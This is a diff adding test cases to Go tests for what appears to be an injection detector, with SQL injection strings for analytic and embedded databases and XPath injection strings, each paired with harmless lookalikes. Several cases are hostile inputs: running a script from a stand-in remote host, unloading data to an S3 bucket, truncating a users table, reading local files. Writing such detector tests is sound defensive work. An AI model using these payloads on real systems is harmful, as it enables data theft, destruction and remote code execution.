@@ -208,6 +208,22 @@ func TestDialects(t *testing.T) {
 			t.Errorf("%q scores %d: %+v", text, got.Score(), got.Marks[:got.N])
 		}
 	}
+	// Statements and functions of analytic and embedded databases.
+	f(`1; install httpfs; load httpfs`, true)
+	f(`1; install the app; load it`, false)
+	f(`1; unload ('select 1') to 's3://k/l'`, true)
+	f(`1; unload the truck`, false)
+	f(`1; runscript from 'http://h.example/k.sql'`, true)
+	f(`1;create alias K as 'void k(){}'`, true)
+	f(`1; create alias for me`, false)
+	f(`1; create assembly k from 0x4d5a`, true)
+	f(`1;truncate users`, true)
+	f(`1; set global general_log=1`, true)
+	f(`1; set global goals`, false)
+	f(`1 union select content from read_text('/k')`, true)
+	f(`1 and crdb_internal.force_error('a','b')`, true)
+	f(`1 and link_schema('a','b','c','d','e','f') is null`, true)
+	f(`1 union select * from stv_sessions`, true)
 	// Truth and calls behind a number.
 	f(`0 or true`, true)
 	f(`41 or ~1`, true)
@@ -319,6 +335,18 @@ func TestPaths(t *testing.T) {
 		}
 	}
 	f(`k')] | //* | //*[('`, true)
+	f(`1]/../*[1`, true)
+	f(`1] or //pin[1`, true)
+	f(`1] | //clerk[1`, true)
+	f(`1 | //clerk`, true)
+	f(`' | //clerk/pin | '`, true)
+	f(`'] or //clerk[role='boss' or '`, true)
+	f(`' ]/.. | k[l='`, true)
+	f(`2] /k [3`, false)
+	f(`5 | //cdn.example/k.js`, false)
+	f(`1]/a`, false)
+	f(`7/8 | 9/10`, false)
+	f(`it's | //k | that's`, false)
 	// Conditions that are paths, bindings and comparisons of XPath 2.
 	f(`k' or ../pin='m`, true)
 	f(`k' or //clerk[1]/pin ne 'm`, true)
